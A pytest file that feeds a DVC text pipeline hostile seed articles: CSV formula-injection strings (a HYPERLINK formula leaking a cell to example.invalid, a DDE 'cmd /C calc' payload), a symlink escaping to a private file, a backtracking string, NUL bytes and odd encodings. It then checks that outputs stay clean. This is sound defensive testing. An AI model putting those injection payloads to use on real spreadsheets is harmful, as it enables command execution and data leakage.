"""Issue 13, done-when: a seeds folder holding every bad input of the issue next to the five seeds.

In a copy of the project in a temporary folder (never the real ``seeds/``), the seeds folder gets the
hostile articles and file-system oddities of the issue's table; ``dvc repro`` must exit 0, every claim
the seeds make must be unchanged (each row of the committed ``output/claims.csv`` is still there, byte
for byte), and every bad input must appear in a report with its reason: ``normalize_report.csv`` for
what cannot be an article or was read specially, ``unclaimed.csv`` for numbers that cannot be read.
The inputs that are not articles (a broken ``reviews.csv``, a rule file, a cache entry, two runs at
once, ``--stdin``, ``published=``) have their own tests in ``tests/test_hostile_inputs.py``.
"""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

pytestmark = pytest.mark.slow

ROOT = Path(__file__).resolve().parents[1]
PROSE = (
    "The river authority opened a new lock this spring. Engineers said the lock would let barges pass "
    "at night and ease the queue at the old weir. "
)
HUGE = "9" * 5000
ARTICLES: dict[str, bytes] = {
    "h01_numbers.txt": (
        "River ledger\n\nThe authority holds 12345678901234567890123456789 yuan in bonds. "
        "A gauge once read 1e309 litres. Tickets 591 592 593 594 595 596 597 598 599 600 were drawn. "
        f"Tolls rose 3 9/0 times and 3 0/0 times. The registry lists {HUGE} members. "
        "Berths of 120 130 140 150 160 170 180 190 200 units were let.\n"
    ).encode(),
    "h02_long_line.txt": ("lock gates " * 95_000 + "and the yard keeps 42 cranes " + "by the weir " * 5_000).encode(
        "utf-8"
    ),
    "h03_backtracking.txt": ("Codes\n\nThe lock code was " + "a" * 60 + "!\nThe weir has 9 sluices.\n").encode("utf-8"),
    "h04_utf16.txt": (PROSE + "The lock cost 48 million yuan.\n").encode("utf-16"),
    "h05_gb18030.txt": ("河道新闻\n" + PROSE + "The lock employs 310 keepers.\n").encode("gb18030"),
    "h06_bom.txt": b"\xef\xbb\xbf" + (PROSE + "The weir holds 17 gates.\n").encode("utf-8"),
    "h07_nul.txt": ((PROSE * 40) + "The yard keeps 42\x00 cranes and\x00 8 tugs.\n").encode("utf-8"),
    "h08_a;b.txt": (PROSE + "The quay is 800 metres long.\n").encode("utf-8"),
    "h09_formula.txt": (
        b'=HYPERLINK("http://example.invalid/?x="&A1;"go") The lock has 6 chambers.\n'
        b"+SUM(1;2) The weir has 4 spillways.\n-2+3+cmd|' /C calc'!A0 The basin is 12 metres deep.\n"
        b"@SUM(1;1) The canal is 30 km long.\n"
    ),
    "h10_case.TXT": (PROSE + "Upper case name.\n").encode("utf-8"),
    "h10_case.txt": (PROSE + "Lower case name.\n").encode("utf-8"),
}


def _copy_project(tmp: Path) -> Path:
    project = tmp / "project"
    project.mkdir()
    for name in ("rules", "seeds", "pipeline"):
        shutil.copytree(ROOT / name, project / name, ignore=shutil.ignore_patterns("__pycache__"))
    for name in ("params.yaml", "reviews.csv", "dvc.yaml"):
        shutil.copy(ROOT / name, project / name)
    shutil.copytree(ROOT / "tests" / "gold", project / "tests" / "gold")
    return project


def _add_bad_inputs(project: Path, tmp: Path) -> None:
    seeds = project / "seeds"
    for name, data in ARTICLES.items():
        (seeds / name).write_bytes(data)
    (tmp / "private.txt").write_text(PROSE + "A private note with 5 secrets.\n", encoding="utf-8")
    (seeds / "h11_symlink.txt").symlink_to(tmp / "private.txt")
    (seeds / "h12_directory.txt").mkdir()
    # an unreadable file cannot be made for root, and a named pipe would block DVC itself (it hashes the
    # seeds folder before any stage runs): both are checked on the stage functions in test_hostile_inputs


def _rows(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("hostile")
    project = _copy_project(tmp)
    _add_bad_inputs(project, tmp)
    # the stages run as `python -m pipeline.<stage>`: the interpreter running the tests, the copied code
    path = f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}"
    env = {**os.environ, "PYTHONPATH": str(project), "PATH": path}
    dvc = [sys.executable, "-m", "dvc"]
    subprocess.run([*dvc, "init", "--no-scm", "-q"], cwd=project, check=True, env=env, timeout=120)
    done = subprocess.run([*dvc, "repro"], cwd=project, capture_output=True, text=True, env=env, timeout=1200)
    assert done.returncode == 0, f"dvc repro failed:\n{done.stdout[-3000:]}\n{done.stderr[-3000:]}"
    return project


def test_every_seed_claim_is_unchanged(project: Path) -> None:
    with open(ROOT / "output" / "claims.csv", encoding="utf-8") as fh:
        committed = fh.read().splitlines()
    with open(project / "output" / "claims.csv", encoding="utf-8") as fh:
        now = set(fh.read().splitlines())
    assert [row for row in committed if row not in now] == []


def test_every_seed_mention_is_unchanged(project: Path) -> None:
    committed = _rows(ROOT / "output" / "mentions.csv")
    seeds = {row["doc"] for row in committed}
    now = [row for row in _rows(project / "output" / "mentions.csv") if row["doc"] in seeds]
    assert now == committed


def test_file_level_bad_inputs_are_in_the_normalize_report(project: Path) -> None:
    report = {row["doc"]: (row["status"], row["problem"]) for row in _rows(project / "output" / "normalize_report.csv")}
    expected = {
        "h11_symlink.txt": ("skipped", "outside the seeds folder"),
        "h12_directory.txt": ("skipped", "a directory"),
        "h10_case.TXT": ("skipped", "differs only in case"),
        "h10_case.txt": ("skipped", "differs only in case"),
        "h04_utf16": ("ok", "decoded as utf-16"),
        "h05_gb18030": ("ok", "decoded as gb18030"),
        "h06_bom": ("ok", "decoded as utf-8-sig"),
        "h07_nul": ("ok", "2 control character(s)"),
        "h02_long_line": ("ok", "parsed in windows"),
    }
    for doc, (status, reason) in expected.items():
        assert doc in report, doc
        assert report[doc][0] == status and reason in report[doc][1], (doc, report[doc])
    assert (project / "output" / "extract_report.csv").read_text(encoding="utf-8") == "doc,status,problem\n"


def test_unreadable_numbers_are_in_the_unclaimed_report(project: Path) -> None:
    rows = [r for r in _rows(project / "output" / "unclaimed.csv") if r["doc"] == "h01_numbers"]
    unreadable = {r["quote"] for r in rows if r["reason"] == "unreadable number"}
    assert unreadable == {"12345678901234567890123456789", "1e309", "3 9/0", "3 0/0", HUGE}
    numbers = [r for r in _rows(project / "output" / "mentions.csv") if r["doc"] == "h01_numbers"]
    assert all(len(r["value"].lstrip("-").split(".")[0]) <= 28 for r in numbers)
    assert "120130140150160170180190200" not in {r["value"] for r in numbers}


def test_what_was_read_reaches_every_output_cleanly(project: Path) -> None:
    mentions = _rows(project / "output" / "mentions.csv")
    quotes = {(r["doc"], r["quote"]) for r in mentions}
    for doc, quote in [
        ("h02_long_line", "42 cranes"),
        ("h04_utf16", "48 million yuan"),
        ("h05_gb18030", "310 keepers"),
        ("h06_bom", "17 gates"),
        ("h07_nul", "8 tugs"),
        ("h08_a;b", "800 metres"),
        ("h09_formula", "6 chambers"),
    ]:
        assert (doc, quote) in quotes, (doc, quote)
    for name in ("mentions.csv", "claims.csv", "unclaimed.csv", "review.html"):
        assert "\x00" not in (project / "output" / name).read_text(encoding="utf-8"), name
    assert not any("private" in r["sentence"] or "secrets" in r["sentence"] for r in mentions)
    claims = _rows(project / "output" / "claims.csv")
    assert any("h08_a%3Bb:" in c["sources"] for c in claims)
    page = (project / "output" / "review.html").read_text(encoding="utf-8")
    assert "<mark>48 million yuan</mark>" in page and "<mark>310 keepers</mark>" in page
    for name in ("mentions.csv", "unclaimed.csv"):
        for row in _rows(project / "output" / name):
            for column, cell in row.items():
                if column not in ("quote", "value", "qualifier", "start", "end", "year", "confidence"):
                    assert cell[:1] not in ("=", "+", "-", "@"), (name, column, cell[:40])
